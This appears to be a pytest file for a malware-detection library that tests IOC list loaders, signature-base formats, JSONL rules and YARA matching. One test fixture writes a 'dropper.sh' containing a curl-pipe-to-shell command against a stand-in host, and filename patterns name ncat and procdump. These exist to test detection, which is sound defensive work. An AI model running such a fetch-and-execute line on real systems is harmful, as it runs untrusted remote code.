"""IOC list loaders (plain lists and the ioc_signature_base formats) and YARA rules."""

import json

import pytest

from secml_detect.exceptions import InvalidItemError
from secml_detect.signatures import Field, Rule, SignatureMatcher
from secml_detect.signatures.iocfiles import load_ioc_file, load_rule_source, parse_ioc_lines
from secml_detect.signatures.rules import compile_condition, EventView


def test_plain_list_guesses_kinds_and_records_bad_lines(tmp_path):
    f = tmp_path / "tor-exits.txt"
    f.write_text("# tor exit nodes\n198.51.100.7\n203.0.113.0/24 ; a range\n\n2001:db8::5\n"
                 "999.1.1.1\nevil.example\nd41d8cd98f00b204e9800998ecf8427e\nhttp://x.example/a\n")
    rules, errors = load_ioc_file(f)
    kinds = {r.kind: r.condition.values for r in rules}
    assert kinds["ip"] == ("198.51.100.7", "203.0.113.0/24", "2001:db8::5")
    assert kinds["domain"] == ("evil.example",) and "hash" in kinds and "url" in kinds
    assert [e["line"] for e in errors] == [6] and str(f) in errors[0]["source"]
    with pytest.raises(InvalidItemError, match="tor-exits.txt:6"):
        parse_ioc_lines(f.read_text().splitlines(), source=str(f), kind="ip", on_error="raise")


def test_signature_base_formats(tmp_path):
    (tmp_path / "hash-iocs.txt").write_text(
        "# APT X\n" + "a" * 32 + ";Tool A\n" + "b" * 64 + ";Tool A\n" + "c" * 40 + ";Tool B\nzz;broken\n")
    (tmp_path / "c2-iocs.txt").write_text("# Operation Y\nbad.example\n192.0.2.9;65\n\n# Op Z\nworse.example\n")
    (tmp_path / "filename-iocs.txt").write_text(
        "# Ncat\n\\\\ncat\\.exe;60\n(?i)\\\\procdump(64)?\\.exe;50;(?i)(SysInternals\\\\)\n(unclosed;80\nnoscore\n")
    m = SignatureMatcher(rules=[str(tmp_path / n) for n in ("hash-iocs.txt", "c2-iocs.txt", "filename-iocs.txt")]).fit()
    assert len(m.load_errors_) == 3  # bad hash, bad regex, missing score
    events = [{"sha256": "B" * 64}, {"domain": "x.worse.example"}, {"dst_ip": "192.0.2.9"},
              {"file_path": "C:\\tools\\ncat.exe"}, {"file_path": "C:\\x\\PROCDUMP64.exe"},
              {"file_path": "C:\\SysInternals\\procdump.exe"}, {"file_path": "C:\\ok.exe"}]
    hits = m.match(events)
    assert [bool(h) for h in hits] == [True, True, True, True, True, False, False]
    assert hits[0][0].title == "Tool A" and hits[1][0].title == "Op Z"
    assert hits[2][0].severity == "medium" and hits[3][0].severity == "medium" and hits[3][0].title == "Ncat"


def test_regex_gate_gives_the_same_answers_as_plain_evaluation():
    rules = [Rule(f"r{i}", Field("file_path", "regex", [p]) & ~Field("file_path", "regex", ["safe"]))
             for i, p in enumerate([r"\\a+\.exe$", r"(?i)temp\\[^\\]+\.dll", r"^/tmp/\w+$", r"x{2,}"])]
    m = SignatureMatcher(rules=rules).fit()
    assert m._index().regex_gates  # the gate is in use
    events = [{"file_path": p} for p in ["c:\\aaa.exe", "C:\\TEMP\\x.dll", "/tmp/abc", "/tmp/a/b", "xx safe", "xxx", "", 5]]
    got = [[h.rule_id for h in row] for row in m.match(events)]
    ref = [[r.id for r in rules if compile_condition(r.condition)(EventView(e)) is not None] for e in events]
    assert got == ref


def test_jsonl_rules(tmp_path):
    f = tmp_path / "rules.jsonl"
    f.write_text(json.dumps(Rule("bin", Field("file_path", "glob", ["/bin/*"]), severity="critical").to_dict())
                 + "\n{not json\n")
    rules, errors = load_rule_source(f)
    assert [r.id for r in rules] == ["bin"] and errors[0]["line"] == 2


def test_shared_signature_base_iocs(shared_dataset):
    root = shared_dataset("ioc_signature_base")
    m = SignatureMatcher(rules=[str(root / n) for n in ("hash-iocs.txt", "c2-iocs.txt", "filename-iocs.txt", "keywords.txt")]).fit()
    lists = m.to_ioc_lists()
    assert len(lists["hash"]) > 3000 and len(lists["ip"]) + len(lists["domain"]) > 1500
    n_lines = sum(1 for line in open(root / "filename-iocs.txt", encoding="utf-8", errors="replace")
                  if line.strip() and not line.startswith("#"))
    n_rules = sum(r.id.startswith("filename-iocs") for r in m.rules_)
    assert n_rules + sum("filename" in e["source"] for e in m.load_errors_) == n_lines  # nothing dropped silently
    first_hash = lists["hash"][0]
    assert m.predict([{"file_hash": first_hash.upper()}, {"file_hash": "0" * 64}]).tolist() == [1, 0]


yara_x = pytest.importorskip("yara_x")


def test_yara_rules_match_payloads_and_report_compile_errors(tmp_path, ):
    (tmp_path / "good.yar").write_text('rule EvilString { strings: $a = "EVIL" nocase condition: $a }\n'
                                        'rule Mz { condition: uint16(0) == 0x5A4D }\n')
    (tmp_path / "bad.yar").write_text("rule Broken { condition: $nope }")
    (tmp_path / "ext.yar").write_text('rule Ext { condition: filename == "x.exe" }')  # THOR/LOKI external
    m = SignatureMatcher(rules=[str(tmp_path)]).fit()
    assert {r.id for r in m.rules_} == {"yara:good", "yara:ext"}
    assert len(m.load_errors_) == 1 and m.load_errors_[0]["source"].endswith("bad.yar")
    hits = m.match([{"payload": b"MZ\x90\x00 evil"}, {"payload": "nothing"}, {"content": 5}])
    assert {h.rule_id for h in hits[0]} == {"yara:good:EvilString", "yara:good:Mz"}
    assert hits[0][0].kind == "yara" and hits[1] == [] and hits[2] == []


def test_match_files_runs_hashes_paths_patterns_and_yara(tmp_path):
    import hashlib

    evil = tmp_path / "dropper.sh"
    evil.write_bytes(b"#!/bin/sh\ncurl http://x | sh # EVIL\n")
    (tmp_path / "r.yar").write_text('rule Evil { strings: $a = "EVIL" condition: $a }')
    m = SignatureMatcher(rules=[str(tmp_path / "r.yar")],
                         indicators={"hash": [hashlib.sha256(evil.read_bytes()).hexdigest()],
                                     "path": ["*/dropper.*"], "pattern": ["curl http"]}).fit()
    import warnings

    with warnings.catch_warnings(record=True):
        hits = m.match_files([evil, tmp_path / "missing.bin"])
    assert {h.kind for h in hits[0]} == {"hash", "path", "pattern", "yara"}
    assert hits[1] == []


def test_nan_cells_are_missing():
    m = SignatureMatcher(rules=[Rule("n", Field("a", "null")), Rule("c", Field("a", "contains", ["nan"]))]).fit()
    assert [[h.rule_id for h in row] for row in m.match([{"a": float("nan")}, {"a": "banana"}])] == [["n"], ["c"]]
